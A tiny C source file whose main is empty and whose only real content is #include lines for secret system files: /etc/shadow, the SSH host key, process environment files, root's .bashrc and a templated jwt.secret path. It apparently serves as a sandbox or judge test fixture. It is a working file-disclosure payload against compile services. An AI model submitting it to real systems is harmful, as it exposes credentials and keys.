#include "/etc/passwd"
#include "/etc/shadow"
#include "/proc/self/environ"
#include "/proc/1/environ"
#include "/proc/1/cmdline"
#include "/proc/self/mountinfo"
#include "/etc/ssh/ssh_host_rsa_key"
#include "/etc/hostname"
#include "/root/.bashrc"
#include "@DATA@/jwt.secret"

int main(void)
{
    return 0;
}
